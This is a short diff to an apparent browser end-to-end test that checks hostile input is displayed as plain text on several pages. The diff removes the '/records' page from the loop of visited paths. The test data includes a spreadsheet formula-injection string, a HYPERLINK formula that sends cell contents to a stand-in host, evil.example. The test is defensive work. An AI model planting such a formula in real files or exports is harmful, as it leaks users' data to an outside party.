@@ -60,7 +60,7 @@ test('fault 39: a hostile text in every field is shown as text on every screen t
   await expect(page.getByText(image).first()).toBeVisible()
   await expect(page.getByText('=HYPERLINK("http://evil.example/?"&A1,"看")').first()).toBeVisible()
   await eyes.unharmed()
-  for (const path of ['/', `/map?place=${door.id}`, '/records', `/log?place=${door.id}`]) {
+  for (const path of ['/', `/map?place=${door.id}`, `/log?place=${door.id}`]) {
     await page.goto(path)
     await expect(page.getByText(path === '/' ? campaign.name : bold).first()).toBeVisible()
     await eyes.unharmed()
